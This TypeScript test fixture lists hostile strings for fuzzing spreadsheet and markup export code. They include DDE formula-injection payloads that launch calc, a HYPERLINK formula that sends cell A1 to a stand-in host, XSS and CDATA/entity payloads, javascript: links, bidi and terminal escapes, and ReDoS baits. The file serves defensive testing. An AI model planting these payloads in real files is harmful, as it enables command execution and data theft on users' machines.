/** Texts that try to be something else where they are shown or written: shared by the fuzzing and the table of attacks. */

/** By name; each may stand in any cell, and where Excel allows it in a sheet's name. */
export const evilTexts = {
  "a link's formula": '=HYPERLINK("https://elak.example/?"&A1,"Klicka")',
  "a command": "=cmd|' /C calc'!A0",
  "a plus": "+1+cmd|' /C calc'!A0",
  "a minus": "-2+3",
  "an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a tab before a formula": "\t=1+1",
  "a carriage return before a formula": "\r=1+1",
  "an apostrophe before a formula": "'=1+1",
  "a picture": '<img src=x onerror="globalThis.caught=1">',
  "a script": "</script><script>globalThis.caught=1</script>",
  "the end of CDATA": "]]><evil/>",
  "an entity": "&lt;b&gt;&#0;&xxe;",
  "quotes that end a formula's text": '"&HYPERLINK("https://elak.example")&"',
  "a sheet's name that ends itself": "Blad'!A1:Z9+'",
  "a link in Markdown": "[klicka](javascript:alert(1))",
  "a row of a Markdown table": "| a | b |\n| --- | --- |",
  "a reversed text": "\u202Eterger\u202C \u2067x\u2069",
  "a terminal's command": "\u001B]0;titel\u0007\u001B[31m",
  "control characters": "a\u0000b\u0008c\u0085d\u2028e",
  "a lone surrogate": "a\uD800b\uDC00",
  "as long as a cell can be": "Å".repeat(32_767),
} as const;

export type EvilName = keyof typeof evilTexts;

/** What regular expressions may stumble over: long runs of what they repeat. @param length in characters */
export function baitsOf(length: number): Readonly<Record<string, string>> {
  const run = (unit: string) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
  return {
    spaces: run(" "),
    "odd white space": run("\u00A0 \t\n"),
    quotes: run('"'),
    apostrophes: run("'"),
    "less-than signs": run("<"),
    "comment beginnings": run("<!--"),
    "CDATA beginnings": run("<![CDATA["),
    brackets: run("["),
    parentheses: run("("),
    ampersands: run("&"),
    letters: run("a"),
    digits: run("1"),
    "combining marks": `a${run("\u0301")}`,
    "numbers of a closing line": run("klar 1 av 1 "),
    negations: run("ej "),
    "status words": run("status "),
  };
}
